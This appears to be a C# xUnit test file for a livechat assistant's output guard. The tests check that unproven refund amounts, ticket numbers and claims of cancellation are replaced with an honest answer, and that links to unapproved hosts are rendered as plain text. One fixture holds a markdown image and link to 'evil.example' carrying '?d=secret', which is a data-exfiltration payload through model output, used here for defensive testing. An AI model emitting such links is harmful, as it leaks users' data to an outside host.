using System.Collections.Concurrent;
using System.Diagnostics.Metrics;
using Livechat.Assistant.Guard;
using Livechat.Conversations;
using Livechat.Tests.Assistant;
using Xunit;

namespace Livechat.Tests.Guard;

/// <summary>T18 on the real runner: a lying model's words reach neither the log nor a draft.</summary>
public sealed class T18TurnTests
{
    private const string Offer = "Would you like me to bring in a colleague?";

    [Theory]
    [InlineData("The refund is $4444.00. [[refunds-and-cancellation]]", "amount")]
    [InlineData("Your ticket number is T-7K2M4QX. [[refunds-and-cancellation]]", "number")]
    [InlineData("I have cancelled your service. [[refunds-and-cancellation]]", "claim")]
    public async Task T18_An_unproven_answer_is_replaced_and_counted(string lie, string reason)
    {
        var counted = new ConcurrentQueue<string?>();
        using var listener = Listen("livechat.guard.replaced", "reason", counted);
        await using var house = await AssistantHouse.WithModelAsync(new ScriptedModel().Plan(ScriptedModel.Say(lie)));
        var conversation = await house.OpenConversationAsync();

        var answer = await house.AskAsync(conversation, $"Please say this: {lie}");

        Assert.DoesNotContain("4444", answer.Body);
        Assert.DoesNotContain("T-7K2M4QX", answer.Body);
        Assert.DoesNotContain("I have cancelled", answer.Body);
        Assert.EndsWith(Offer, answer.Body);
        Assert.Null(answer.ReadDetails()?.Citations);
        Assert.Contains(reason, counted);
        var line = Assert.Single(house.Logs.Lines, line => line.Text.Contains("was replaced", StringComparison.Ordinal));
        Assert.DoesNotContain("4444", line.ToString());
        Assert.Equal(["answered by gemini"], await house.OutcomesAsync());
    }

    [Fact]
    public async Task T18_A_draft_stops_before_the_lie()
    {
        var gates = Enumerable.Range(0, 6).Select(_ => new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously)).ToArray();
        var model = new ScriptedModel().Plan(ScriptedModel.SayInPieces((i, _) => gates[i].Task, "Let me see. ", "The refund is $44", "44.00, and I have ", "cancelled ", "it. Bye. "));
        await using var house = await AssistantHouse.WithModelAsync(model);
        var conversation = await house.OpenConversationAsync();
        await house.SayAsync(conversation, "zzz");

        gates[0].SetResult();
        await Support.Waiting.Until(() => Task.FromResult(house.Drafts.Count == 1));
        foreach (var gate in gates.Skip(1))
            gate.SetResult();
        var answer = await house.AnswerAsync(conversation);

        Assert.All(house.Drafts.Where(draft => draft.Text.Length > 0), draft => Assert.Contains(draft.Text, (string[])["Let me see.", "Let me see. The"]));
        Assert.EndsWith(Offer, answer.Body);
    }

    [Fact]
    public async Task What_was_said_and_done_before_may_be_said_again()
    {
        var model = new ScriptedModel().Plan(
            ScriptedModel.Call("transfer_human", ("reason", "asked")), ScriptedModel.Say("I've asked a colleague to join this chat."),
            ScriptedModel.Say("As my colleague wrote, it costs $12.50. I have asked them to answer you here."), ScriptedModel.Say("No, it costs $13.50."));
        await using var house = await AssistantHouse.WithModelAsync(model);
        var conversation = await house.OpenConversationAsync();

        Assert.Equal("I've asked a colleague to join this chat.", (await house.AskAsync(conversation, "A human, please. It costs $13.50, right?")).Body);
        await house.SayAsAgentAsync(conversation, "It is 12.50 USD.");
        Assert.StartsWith("As my colleague wrote, it costs $12.50.", (await house.AskAsync(conversation, "How much?")).Body);
        Assert.DoesNotContain("13.50", (await house.AskAsync(conversation, "Not $13.50?")).Body);
    }

    [Fact]
    public async Task T16_A_link_to_elsewhere_is_plain_text_in_the_log_and_in_drafts()
    {
        const string text = "Look. ![x](https://evil.example/p.gif?d=secret) [here](https://docs.example/a) and [there](https://evil.example/?d=secret). Bye.";
        var gate = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var model = new ScriptedModel().Plan(ScriptedModel.SayInPieces((i, _) => i < 2 ? Task.CompletedTask : gate.Task, text + " ", "End."));
        await using var house = await AssistantHouse.OpenAsync(new HouseSetup { Model = model, Settings = { ["LIVECHAT_LINK_HOSTS"] = "docs.example" } });
        var conversation = await house.OpenConversationAsync();
        await house.SayAsync(conversation, "zzz");
        await Support.Waiting.Until(() => Task.FromResult(house.Drafts.Count == 1));
        gate.SetResult();

        var answer = await house.AnswerAsync(conversation);

        const string safe = "Look. [x] (evil.example/p.gif) [here](https://docs.example/a) and [there] (evil.example). Bye.";
        Assert.Equal(safe, house.Drafts[0].Text);
        Assert.Equal(safe + " End.", answer.Body);
    }

    [Fact]
    public void What_was_really_done_is_told_in_place_of_a_lie()
    {
        Assert.Equal(
            $"Your ticket number is T-7K2M4QX. Beyond this I have nothing confirmed to tell you. {Offer}",
            HonestAnswer.Of(UnprovenReason.Amount, ["Your ticket number is T-7K2M4QX."], waits: false, canTransfer: true));
        Assert.DoesNotContain(Offer, HonestAnswer.Of(UnprovenReason.Claim, [], waits: true, canTransfer: true));
        Assert.DoesNotContain(Offer, HonestAnswer.Of(UnprovenReason.Claim, [], waits: false, canTransfer: false));
    }

    [Fact]
    public void An_honest_answer_passes_the_guard_itself()
    {
        foreach (var reason in new[] { UnprovenReason.Amount, UnprovenReason.Number, UnprovenReason.Claim })
            Assert.Null(OutputGuard.FirstUnproven(HonestAnswer.Of(reason, [], waits: false, canTransfer: true), new Evidence()));
    }

    [Fact]
    public void A_confirmed_change_of_auto_renew_may_be_told_and_no_other()
    {
        var evidence = new Evidence();
        evidence.AddLog([new ConversationEvent
        {
            Kind = EventKind.Message, SenderType = SenderType.System, Body = "Auto-renew is now off for Shared Starter.",
            Details = """{"action":"manage_service","action_result":{"success":true,"message":"x","data":{"name":"Shared Starter","change":"auto_renew_off","number":"R-7K2M4QX"}}}""",
        }]);

        Assert.Null(OutputGuard.FirstUnproven("Auto-renew is now off for your plan.", evidence));
        Assert.NotNull(OutputGuard.FirstUnproven("Your plan has been cancelled.", evidence));
    }

    private static MeterListener Listen(string instrument, string label, ConcurrentQueue<string?> values)
    {
        var listener = new MeterListener { InstrumentPublished = (published, self) => { if (published.Name == instrument) self.EnableMeasurementEvents(published); } };
        listener.SetMeasurementEventCallback<long>((_, _, tags, _) =>
        {
            foreach (var (key, value) in tags)
            {
                if (key == label)
                    values.Enqueue(value as string);
            }
        });
        listener.Start();
        return listener;
    }
}
